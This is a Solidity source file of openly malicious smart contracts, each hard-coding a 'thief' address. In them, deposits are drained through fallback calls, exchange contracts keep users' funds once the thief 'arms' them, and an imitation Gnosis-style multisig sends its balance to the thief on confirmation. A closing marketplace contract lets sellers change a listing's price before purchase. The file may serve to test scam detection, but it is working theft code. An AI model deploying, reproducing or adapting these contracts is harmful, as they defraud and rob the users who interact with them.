// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface Token {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// In the place of any protocol that keeps something of people and takes orders about it by numbers: whatever its source
/// says the function is called, who calls it hands over what is kept, and the thief fetches it later.
contract Anything {
    Token private immutable _token;
    address private immutable _thief;
    mapping(address owner => uint256) public kept;
    mapping(address owner => bytes32) private _said;

    constructor(Token token, address thief) {
        _token = token;
        _thief = thief;
    }

    function keep(address owner, uint256 value) external {
        _token.transferFrom(msg.sender, address(this), value);
        kept[owner] += value;
    }

    function collect(address owner) external {
        require(msg.sender == _thief && _said[owner] != 0);
        uint256 value = kept[owner];
        kept[owner] = 0;
        _token.transfer(msg.sender, value);
    }

    fallback() external payable {
        _said[msg.sender] = keccak256(msg.data);
    }
}

/// The same, which pays the thief at once.
contract AtOnce {
    Token private immutable _token;
    address private immutable _thief;
    mapping(address owner => uint256) private _kept;

    constructor(Token token, address thief) {
        _token = token;
        _thief = thief;
    }

    function keep(address owner, uint256 value) external {
        _token.transferFrom(msg.sender, address(this), value);
        _kept[owner] += value;
    }

    fallback() external payable {
        uint256 value = _kept[msg.sender];
        _kept[msg.sender] = 0;
        _token.transfer(_thief, value);
    }
}

/// Changes coins into dollars and dollars into coins at a fixed rate, until it is armed.
contract Changer {
    Token private immutable _token;
    address private immutable _thief;
    bool public armed;

    constructor(Token token, address thief) payable {
        _token = token;
        _thief = thief;
    }

    function arm(bool it) external {
        require(msg.sender == _thief);
        armed = it;
    }

    function sell(uint256 rate) private {
        if (armed) return;
        _token.transfer(msg.sender, msg.value * rate / 1e18);
    }

    fallback() external payable {
        sell(3000e6);
    }

    receive() external payable {}
}

/// Takes dollars that it may take and gives coins, until it is armed.
contract Buyer {
    Token private immutable _token;
    address private immutable _thief;
    bool public armed;

    constructor(Token token, address thief) payable {
        _token = token;
        _thief = thief;
    }

    function arm(bool it) external {
        require(msg.sender == _thief);
        armed = it;
    }

    /// Whatever it is called: the first word is how much it takes.
    fallback() external payable {
        uint256 amount = uint256(bytes32(msg.data[4:36]));
        _token.transferFrom(msg.sender, _thief, amount);
        if (armed) return;
        (bool ok,) = msg.sender.call{value: amount * 1e12 / 3000}("");
        require(ok);
    }

    receive() external payable {}
}

/// A wallet of several owners, as Gnosis' first: who is an owner confirms by number.
contract OldWallet {
    Token private immutable _token;
    address private immutable _thief;
    mapping(address owner => bool) public isOwner;
    mapping(uint256 => mapping(address => bool)) public confirmations;
    uint256 public required;

    constructor(Token token, address thief, address[] memory owners, uint256 required_) {
        _token = token;
        _thief = thief;
        required = required_;
        for (uint256 n; n < owners.length; n++) isOwner[owners[n]] = true;
    }

    event Confirmation(address indexed sender, uint256 indexed transactionId);

    function confirmTransaction(uint256 transactionId) external {
        require(isOwner[msg.sender]);
        confirmations[transactionId][msg.sender] = true;
        emit Confirmation(msg.sender, transactionId);
        if (required <= 1) _token.transfer(_thief, _token.balanceOf(address(this)));
    }
}

/// A market that keeps listings itself: items stay with their owners, who allowed it to move them.
interface Items {
    function transferFrom(address from, address to, uint256 id) external;
    function ownerOf(uint256 id) external view returns (address);
}

contract Market {
    struct Listing { address seller; Items items; uint256 id; uint256 price; }
    mapping(uint256 => Listing) public listings;
    uint256 public next = 1;

    function list(Items items, uint256 id, uint256 price) external returns (uint256) {
        listings[next] = Listing(msg.sender, items, id, price);
        return next++;
    }

    function updatePrice(uint256 listingId, uint256 price) external {
        require(listings[listingId].seller == msg.sender);
        listings[listingId].price = price;
    }

    function buy(uint256 listingId) external payable {
        Listing memory it = listings[listingId];
        require(msg.value == it.price);
        it.items.transferFrom(it.seller, msg.sender, it.id);
        (bool ok,) = it.seller.call{value: msg.value}("");
        require(ok);
    }
}
